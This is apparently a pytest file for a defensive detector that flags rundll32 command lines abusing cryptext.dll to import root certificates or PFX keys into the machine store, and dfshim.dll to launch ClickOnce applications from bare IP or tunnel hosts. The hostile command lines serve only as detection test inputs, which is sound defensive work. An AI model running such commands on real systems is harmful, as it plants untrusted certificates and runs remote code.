"""rundll32 and the import exports of cryptext.dll, however the line is spaced and quoted."""

from __future__ import annotations

import pytest
from codesignrisk_core.cmdline import argv
from codesignrisk_core.model import Command, Report
from codesignrisk_core.tools import rundll32


def judge(line: str) -> Report:
    return rundll32.judge(Command("C:\\Windows\\System32\\rundll32.exe", argv.split(line), line))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("rundll32 C:\\lab\\a.dll,InstallCA root", ["library_adds_certificate"]),
        ("rundll32 C:\\Users\\Public\\a.dll,AddRootCert", ["library_adds_certificate", "input_user_writable"]),
        (
            'rundll32 "C:\\Program Files\\Lab\\a.dll",ImportCertificateW',
            ["library_adds_certificate", "installed_place"],
        ),
        ("rundll32 a.dll,InstallCache", []),
        ("rundll32 a.dll,AddCertificateWatcher", []),
        ("rundll32 C:\\importca\\a.dll,Run", []),
    ],
)
def test_functions_that_are_named_for_it(line: str, indicators: list[str]) -> None:
    report = judge(line)
    assert [found.indicator for found in report.findings] == indicators
    assert report.action == ("add_to_store" if indicators else "")


@pytest.mark.parametrize(
    "call",
    [
        "cryptext.dll,CryptExtAddCER",
        "CRYPTEXT,CryptExtAddCER",
        "cryptext.dll, CryptExtAddCERW",
        "cryptext.dll , CryptExtAddCER",
        "cryptext.dll ,CryptExtAddCER",
        "cryptext.dll CryptExtAddCER",
        "C:\\Windows\\System32\\cryptext.dll,CryptExtAddCER",
        '"C:\\Windows\\System32\\cryptext.dll",CryptExtAddCER',
        "cryptext.dll,#2",
        "/d cryptext.dll,CryptExtAddCER",
    ],
)
def test_every_way_to_write_the_call(call: str) -> None:
    report = judge(f"rundll32.exe {call} C:\\pki\\a b.cer")
    assert [found.indicator for found in report.findings] == ["cryptext_import"]
    assert (report.tool, report.action, report.files) == ("rundll32", "add_to_store", ["c:\\pki\\a b.cer"])
    assert report.flags == {"CertImport"}


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("rundll32 cryptext.dll,CryptExtAddPFX C:\\k\\a.pfx", ["cryptext_import"]),
        (
            "rundll32 cryptext.dll,CryptExtAddPFXMachineOnlyAndHwndW C:\\Users\\Public\\a.pfx",
            ["cryptext_import", "machine_store", "input_user_writable", "planted_key"],
        ),
        ("rundll32 cryptext.dll,CryptExtAddPFX C:\\k\\a.pfx -p Sesame", ["cryptext_import"]),
        ("rundll32 cryptext.dll,#12 C:\\k\\a.pfx", ["cryptext_import", "machine_store"]),
        (
            "rundll32 C:\\Users\\Public\\other.dll,CryptExtAddSPC C:\\k\\a.spc",
            ["cryptext_import", "input_user_writable"],
        ),
    ],
)
def test_imports(line: str, indicators: list[str]) -> None:
    report = judge(line)
    assert [found.indicator for found in report.findings] == indicators
    assert ("HasPFX" in report.flags) == ("pfx" in line)


def test_a_certificate_on_the_line_is_no_file() -> None:
    report = judge("rundll32 cryptext.dll,CryptExtAddCERMachineOnlyAndHwndW MII" + "Bc+/0" * 12 + "==")
    assert [found.indicator for found in report.findings] == ["cryptext_import", "machine_store"]
    assert report.files == []


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        (
            "rundll32 dfshim.dll,ShOpenVerbApplication http://203.0.113.9/Tool.application",
            ["application_from_nobody", "input_bare_address"],
        ),
        (
            "rundll32.exe C:\\Windows\\System32\\dfshim.dll, ShOpenVerbApplication https://a.trycloudflare.com/x",
            ["application_from_nobody"],
        ),
        ("rundll32 dfshim.dll,ShOpenVerbApplication https://apps.contoso.example/Tool.application", []),
        ("rundll32 dfshim.dll,ShArpMaintain Tool.application, Culture=neutral", []),
        ("rundll32 dfshim.dll,ShOpenVerbApplication", []),
    ],
)
def test_clickonce_applications(line: str, indicators: list[str]) -> None:
    report = judge(line)
    assert [found.indicator for found in report.findings] == indicators
    assert report.tool == "rundll32" * bool(indicators)


@pytest.mark.parametrize(
    "line",
    [
        "rundll32 cryptext.dll,CryptExtOpenCER C:\\Users\\ann\\Downloads\\a.cer",
        "rundll32 cryptext.dll,#18 C:\\a.cer",
        "rundll32 shell32.dll,Control_RunDLL C:\\cryptext\\CryptExtAddCER.cpl",
        "rundll32 cryptext.dll",
        "rundll32",
    ],
)
def test_what_only_shows_is_silent(line: str) -> None:
    assert judge(line) == Report()
